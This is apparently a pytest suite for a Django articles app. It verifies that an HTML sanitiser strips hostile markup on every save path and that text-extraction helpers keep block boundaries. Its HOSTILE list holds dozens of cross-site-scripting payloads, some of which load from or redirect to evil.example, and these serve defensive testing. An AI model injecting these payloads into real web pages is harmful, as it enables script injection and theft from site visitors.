"""Bodies are sanitised whichever way they come."""

import json
import re
from html.parser import HTMLParser

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.models import Article, Page
from articles.tests.factories import make_article
from articles.tests.reading import read
from articles.text.differences import readable_lines
from articles.text.markup import ATTRIBUTES, TAGS, clean_html, paragraphs, plain_text, running_text

IMAGE = f'<img src="/media/{"a" * 32}-600x400.webp" alt="膝">'
NESTED = {
    **{tag: f"<{tag}>{{}}</{tag}>" for tag in ("p", "h3", "blockquote")},
    "li": "<ul><li>{}</li></ul>",
    "td": "<table><tbody><tr><td>{}</td></tr></tbody></table>",
    "caption": "<table><caption>{}</caption><tbody><tr><td>格</td></tr></tbody></table>",
    "br": "<br>{}",
}
CAPTIONED = f"<figure>{IMAGE}<figcaption>右膝</figcaption></figure>"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)//",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))' class=x id=main>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='https://x' target=_top onclick=x ping=//evil download>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x><applet code=x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><!--</style><script>alert(1)//--></style>",
    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><a href=/ title='--><img src=x onerror=alert(1)>'>x</table>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p>x" + "<b>" * 5000,
    "<" * 5000,
    "<a href='https://x/\"onmouseover=alert(1)//'>x</a>",
    "<ol start='1\" onload=\"alert(1)'><li>x</li></ol>",
    "<p>\u2028<i/onerror=alert(1)>x</p>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<isindex action=javascript:alert(1) type=image>",
    "<h1 onclick=x>x</h1><H1>y</H1>",
    "<p>x</p" + " a" * 2000 + ">",
]
WAYS = ["save", "create", "bulk_create", "bulk_update", "update", "loaddata", "page"]


class Inspector(HTMLParser):
    """Collects what is not on the allow-list; written apart from the sanitiser, on another parser."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                self.found.append((tag, name))
            if name == "href" and re.match(r"[^/?#]*:", value or "") and not re.match(r"https?:", value):
                self.found.append(value)

    def handle_comment(self, data):
        self.found.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def stored(way, html, tmp_path):
    """Bring a body into the database on one `way`; return what the database holds."""
    if way == "page":
        Page.objects.create(slug="x", title="x", body=html)
        return Page.objects.values_list("body", flat=True).get()
    if way == "create":
        make_article(body=html)
    elif way == "bulk_create":
        Article.objects.bulk_create([Article(title="x", body=html)])
    elif way == "loaddata":
        row = make_article()
        file = tmp_path / "rows.json"
        call_command("dumpdata", "articles.article", output=str(file), verbosity=0)
        row.delete()
        text = file.read_text(encoding="utf-8")
        replaced = re.sub(r'"body": ".*?[^\\]"', lambda _: f'"body": {json.dumps(html)}', text, count=1)
        assert replaced != text
        file.write_text(replaced, encoding="utf-8")
        call_command("loaddata", str(file), verbosity=0)
    else:
        article = make_article()
        if way == "update":
            Article.objects.update(body=html)
        else:
            article.body = html
            article.save() if way == "save" else Article.objects.bulk_update([article], ["body"])
    return Article.objects.values_list("body", flat=True).get()


@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_html_is_harmless_and_stays_so(html):
    clean = clean_html(html)
    assert Inspector(clean).found == []
    assert clean_html(clean) == clean


@pytest.mark.django_db
@pytest.mark.parametrize("way", WAYS)
def test_every_way_into_the_database_is_sanitised(way, tmp_path):
    html = "<p>前</p>" + "".join(HOSTILE[:32]) + "<p>后</p>"
    body = stored(way, html, tmp_path)
    assert Inspector(body).found == []
    assert body.startswith("<p>前</p>")
    assert "<p>后</p>" in body


@pytest.mark.django_db
def test_saved_article_itself_holds_what_was_stored():
    article = make_article(body="<p onclick=x>文</p><script>x</script>")
    assert article.body == "<p>文</p>"
    article.body = "<p style=x>新</p>"
    article.save()
    assert article.body == "<p>新</p>"


@pytest.mark.django_db
@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_page_of_a_hostile_body_holds_no_more_than_its_own_script(client, html):
    response = client.get(make_article(body=html).get_absolute_url())
    text, page = response.content.decode(), read(response)
    assert len(page.all("script")) == 3  # two data blocks and site.js
    assert not [name for _, attributes in page.elements for name in attributes if name.startswith("on")]
    assert text.count("<main") == text.count("</main>") == 1
    assert text.rstrip().endswith("</html>")


def test_attributes_that_word_leaves_everywhere_are_dropped():
    assert clean_html('<p lang="EN-US" title="x" dir="rtl">文<strong lang="EN-US">字</strong></p>') == (
        "<p>文<strong>字</strong></p>"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("html", ["<p>文</p><script>x</script>", "<style>p{}</style><p>文</p>", "<p>\x00\ud800文</p>"])
def test_excerpt_is_made_of_what_the_body_keeps(html):
    article = make_article(body=html)
    article.refresh_from_db()
    assert (article.body, article.excerpt) == ("<p>文</p>", "文")


@pytest.mark.parametrize("kept", ["h2", "h3", "h4", "p", "strong", "em", "u", "s", "sub", "sup", "blockquote"])
def test_structure_is_kept(kept):
    assert clean_html(f"<{kept}>文</{kept}>") == f"<{kept}>文</{kept}>"


def test_lists_tables_and_links_are_kept():
    for html in (
        "<ul><li>一</li></ul>",
        '<ol start="3"><li>三</li></ol>',
        '<table><tbody><tr><th scope="col" colspan="2">药</th></tr><tr><td>甲</td><td>乙</td></tr></tbody></table>',
        '<p><a href="https://example.org/a?b=c&amp;d" title="t" rel="noopener noreferrer">链接</a></p>',
        '<p><a href="/articles/1/" rel="noopener noreferrer">本站</a></p>',
    ):
        assert clean_html(html) == html


def test_a_picture_keeps_its_caption_whatever_is_written_around_it():
    said = f'<figure style="color:red"><div>{IMAGE}</div><figcaption><b>右</b>膝</figcaption></figure>'
    kept = f"<figure>{IMAGE}<figcaption><strong>右</strong>膝</figcaption></figure>"
    assert clean_html(f'<div class="x">{said}后</div>') == f"{kept}<p>后</p>"
    assert clean_html(f"<div>{CAPTIONED}</div>") == CAPTIONED


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ('<section><figure><img data-src="//a.cn/1.png"><figcaption>图一</figcaption></figure>后</section>', "图一|后"),
        ("<div><table><tr><td><p>甲</p><figcaption>乙</figcaption></td></tr></table></div>", "甲|乙"),
        ("<div><figure><table><tr><td>甲</td></tr></table><figcaption>乙</figcaption></figure>丙</div>", "甲|乙|丙"),
        ("<div><h2>甲<figure><figcaption>乙</figcaption></figure></h2>丙</div>", "甲|乙|丙"),
        ("<div>甲</figcaption>乙<figcaption>丙", "甲|乙|丙"),
        ("<figure><figcaption><section>甲</section><ul><li>乙</li></ul></figcaption></figure>丙", "甲|乙|丙"),
        (f"<section><figure>{IMAGE}<figcaption>甲<figure>{IMAGE}<figcaption>乙", "甲|乙"),
    ],
)
def test_captions_of_other_things_stay_as_texts_of_their_own(written, stored):
    cleaned = clean_html(written)
    assert plain_text(cleaned) == stored.replace("|", "\n")
    assert "<fig" not in cleaned
    assert clean_html(str(cleaned)) == cleaned


def test_h1_becomes_h2():
    assert clean_html("<h1>一</h1><H1 class=x>二</H1>") == "<h2>一</h2><h2>二</h2>"


def test_foreign_wrapping_goes_and_its_text_stays():
    assert clean_html("<div><span style='color:red'><font>文</font></span></div>") == "<p>文</p>"


def test_picture_is_dropped():
    assert clean_html("<p>看<img src='https://x/y.png'>图</p>") == "<p>看图</p>"


@pytest.mark.parametrize(
    "html", ["", None, "<p></p>", "<p> &nbsp;</p>", "<br>", "<script>x</script>", "<ul><li></li></ul>"]
)
def test_body_without_text_is_empty(html):
    assert clean_html(html) == ""


def test_plain_text_has_a_line_for_each_block():
    html = "<h2>一</h2><p>甲&lt;乙&amp;<br>丙</p><ul><li>丁</li></ul><table><tr><td>己</td><td>庚</td></tr></table>"
    assert plain_text(clean_html(html)) == "一\n甲<乙&\n丙\n丁\n己 庚"
    assert plain_text(clean_html(f"甲{CAPTIONED}丁")) == "甲\n右膝\n丁"


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(sorted(NESTED)), min_size=2, max_size=6), st.data())
def test_words_of_two_blocks_never_become_one(kinds, data):
    """Numbers stand in blocks within blocks, bare or not: in none of the texts do two of them meet."""
    body = ""
    for number, kind in enumerate(kinds, 10):
        body = data.draw(st.sampled_from([NESTED[kind].format(f"{number}{body}"), NESTED[kind].format(number) + body]))
    cleaned = str(clean_html(body))
    shown = re.findall(r"\d+", plain_text(cleaned)), re.findall(r"\d+", " ".join(readable_lines(cleaned)))
    numbers = [str(number) for number in range(10, 10 + len(kinds))]
    assert [sorted(found) for found in shown] == [numbers, numbers]


def test_dose_in_a_cell_does_not_join_the_paragraph_behind_it():
    table = "<table><tr><td>5 毫克<p>每日一次</p></td></tr></table>"
    body = clean_html(f"{table}<ul><li>每次 5<ol><li>10 毫克</li></ol></li></ul>")
    assert plain_text(body) == "5 毫克\n每日一次\n每次 5\n10 毫克"


def test_running_text_tells_what_a_heading_says_of_the_text_under_it_and_that_a_table_is_left_out():
    assert running_text("<h2>错误做法</h2><p>涂牙膏。</p><h2>怎么办？</h2><p>冲凉水。</p>") == (
        "错误做法：\n涂牙膏。\n怎么办？\n冲凉水。"
    )
    assert running_text("<h3>不能<em>吃</em></h3><ul><li>柚子</li></ul>") == "不能吃：\n柚子"
    assert running_text("<p>成人用量：</p><table><tr><td>5 片</td></tr></table><p>儿童禁用。</p>") == (
        "成人用量：\n…\n儿童禁用。"
    )
    assert running_text("<table><tr><td>5 片</td></tr></table>") == ""
    assert running_text("<h2></h2>") == ""
    assert running_text("<h2>错误做法</h2><h3>烫伤</h3><p>涂牙膏。</p>") == "错误做法：\n烫伤：\n涂牙膏。"
    assert running_text("<p>甲。</p><h2>对照</h2><table></table><table></table><h2>总结</h2><p>乙。</p>") == (
        "甲。\n…\n总结：\n乙。"
    )
    assert running_text("<table></table><p>甲。</p><table></table><h2>总结</h2>") == "甲。"
    assert running_text("<h2><s>旧</s></h2><h2>能吃吗？（重要）</h2><p>甲。</p>") == "能吃吗？（重要）：\n甲。"


def test_running_text_leaves_captions_out():
    assert running_text(clean_html(f"<p>文。</p>{CAPTIONED}尾。")) == "文。\n尾。"


def test_plain_text_becomes_paragraphs_that_mean_the_same():
    texts = ["血压<140 & >90", "<script>alert(1)</script>"]
    assert plain_text(clean_html(paragraphs(texts))) == "\n".join(texts)


@pytest.mark.parametrize(
    "body",
    [
        "<ul><li>每次 10<ul><li>5 mg</li></ul></li></ul>",
        '<ul><li>每次 10<ol start="2"><li>5 mg</li></ol></li></ul>',
        "<ul><li>每次 10<p>5 mg</p></li></ul>",
        "<blockquote>每次 10<blockquote>5 mg</blockquote></blockquote>",
        "<ul><li>每次 10<table><tbody><tr><td>5 mg</td></tr></tbody></table></li></ul>",
    ],
)
def test_what_stands_on_two_lines_is_two_lines_of_text(body):
    assert plain_text(clean_html(body)) == "每次 10\n5 mg"
